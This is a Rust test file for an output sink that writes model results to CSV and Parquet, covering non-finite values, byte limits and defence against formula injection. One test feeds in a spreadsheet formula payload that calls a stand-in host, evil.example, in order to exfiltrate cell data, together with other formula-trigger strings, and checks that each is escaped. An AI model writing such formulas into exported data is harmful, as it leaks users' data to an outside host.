use super::*;
use cordon_config::manifest::{ColumnSpec, ColumnType};
use cordon_contract::data::TextValues;
use datafusion::arrow::array::{Array, Float64Array};
use std::path::Path;

fn name(text: &str) -> cordon_config::names::Name {
    cordon_config::names::Name::try_from(text.to_string()).unwrap()
}

/// An output `results` of a float `p` and a text `label`, with key `id`.
fn grant(sink: &Path, non_finite: NonFinite) -> OutputGrant {
    OutputGrant {
        name: name("results"),
        sink: sink.to_owned(),
        columns: vec![
            ColumnSpec::new(name("p"), ColumnType::Float64),
            ColumnSpec::new(name("label"), ColumnType::Text),
        ],
        partition_key: Vec::new(),
        non_finite,
    }
}

fn batch(p: Vec<f64>, labels: &[&str]) -> Batch {
    Batch {
        num_rows: p.len(),
        columns: vec![
            Column {
                name: "p".into(),
                values: ColumnValues::Float64(p),
                validity: Vec::new(),
            },
            Column {
                name: "label".into(),
                values: ColumnValues::Text(TextValues::from_strs(labels.iter().copied()).unwrap()),
                validity: Vec::new(),
            },
        ],
    }
}

fn keys(ids: &[&str]) -> Vec<Vec<String>> {
    ids.iter().map(|id| vec![id.to_string()]).collect()
}

fn open_sink(path: &Path, non_finite: NonFinite, limits: &Limits) -> Sink {
    Sink::create(&grant(path, non_finite), &["id".to_string()], limits).unwrap()
}

#[test]
fn a_nan_is_refused_by_default_naming_output_column_row_and_key() {
    let dir = tempfile::tempdir().unwrap();
    for file in ["out.csv", "out.parquet"] {
        let path = dir.path().join(file);
        let mut sink = open_sink(&path, NonFinite::Refuse, &Limits::default());
        sink.write(&keys(&["a", "b"]), &batch(vec![0.5, 0.25], &["x", "y"]))
            .unwrap();
        let error = sink
            .write(&keys(&["c", "d"]), &batch(vec![0.5, f64::NAN], &["x", "y"]))
            .unwrap_err()
            .to_string();
        assert_eq!(
            error,
            format!(
                "output `results` ({}) column `p`, row 4 (id=d): the model returned NaN; refused by [emit.results] non-finite = \"refuse\" (the default); set non-finite = \"null\" to write it as null",
                path.display()
            )
        );
        let error = sink
            .write(&keys(&["e"]), &batch(vec![f64::NEG_INFINITY], &["x"]))
            .unwrap_err()
            .to_string();
        assert!(
            error.contains("row 3 (id=e): the model returned -inf"),
            "{error}"
        );
        drop(sink);
        assert!(!path.exists());
    }
}

#[test]
fn a_nan_can_be_written_as_null() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("out.csv");
    let mut sink = open_sink(&path, NonFinite::Null, &Limits::default());
    sink.write(
        &keys(&["a", "b", "c"]),
        &batch(vec![f64::NAN, 0.5, f64::INFINITY], &["x", "y", "z"]),
    )
    .unwrap();
    sink.finish().unwrap();
    assert_eq!(
        std::fs::read_to_string(&path).unwrap(),
        "id,p,label\na,,x\nb,0.5,y\nc,,z\n"
    );

    let path = dir.path().join("out.parquet");
    let mut sink = open_sink(&path, NonFinite::Null, &Limits::default());
    sink.write(&keys(&["a", "b"]), &batch(vec![f64::NAN, 0.5], &["x", "y"]))
        .unwrap();
    sink.finish().unwrap();
    let reader =
        datafusion::parquet::arrow::arrow_reader::ParquetRecordBatchReaderBuilder::try_new(
            File::open(&path).unwrap(),
        )
        .unwrap()
        .build()
        .unwrap();
    let record = reader.into_iter().next().unwrap().unwrap();
    let p = record
        .column(1)
        .as_any()
        .downcast_ref::<Float64Array>()
        .unwrap();
    assert!(p.is_null(0));
    assert_eq!(p.value(1), 0.5);
}

#[test]
fn model_text_that_a_spreadsheet_would_run_is_neutralised() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("out.csv");
    let mut sink = open_sink(&path, NonFinite::Refuse, &Limits::default());
    let labels = [
        "=HYPERLINK(\"http://evil.example/?\"&A2,\"x\")",
        "+1",
        "-2",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "ok=1",
        "",
        "  =1",
        "＝HYPERLINK(\"x\")",
    ];
    // Keys are the consumer's own values and are written as they are.
    let ids = ["=k1", "k2", "k3", "k4", "k5", "k6", "k7", "k8", "k9", "k10"];
    sink.write(&keys(&ids), &batch(vec![-0.5; 10], &labels))
        .unwrap();
    sink.finish().unwrap();
    let rows: Vec<Vec<String>> = csv::Reader::from_path(&path)
        .unwrap()
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect();
    let written: Vec<&str> = rows.iter().map(|r| r[2].as_str()).collect();
    assert_eq!(
        written,
        [
            "'=HYPERLINK(\"http://evil.example/?\"&A2,\"x\")",
            "'+1",
            "'-2",
            "'@SUM(A1)",
            "'\t=1",
            "'\r=1",
            "ok=1",
            "",
            "'  =1",
            "'＝HYPERLINK(\"x\")",
        ]
    );
    assert_eq!(rows[0][0], "=k1");
    // Numbers are not text: a negative score stays a number.
    assert_eq!(rows[0][1], "-0.5");
}

#[test]
fn output_bytes_stop_a_flood_with_a_named_error() {
    let dir = tempfile::tempdir().unwrap();
    let limits = Limits {
        output_bytes: cordon_config::units::ByteSize(100),
        ..Limits::default()
    };
    for file in ["out.csv", "out.parquet"] {
        let path = dir.path().join(file);
        let mut sink = open_sink(&path, NonFinite::Refuse, &limits);
        // A few small rows fit.
        sink.write(&keys(&["a"]), &batch(vec![0.5], &["x"]))
            .unwrap();
        let flood = "y".repeat(200);
        let error = sink
            .write(&keys(&["b"]), &batch(vec![0.5], &[&flood]))
            .unwrap_err()
            .to_string();
        assert_eq!(
            error,
            format!(
                "output `results` ({}): the run would write more than 100 B (limits.output-bytes) and was stopped",
                path.display()
            )
        );
    }
    // The CSV count: the cells and a separator or line end after each.
    assert_eq!(record_bytes(&["id", "p", "label"]), 11);
}
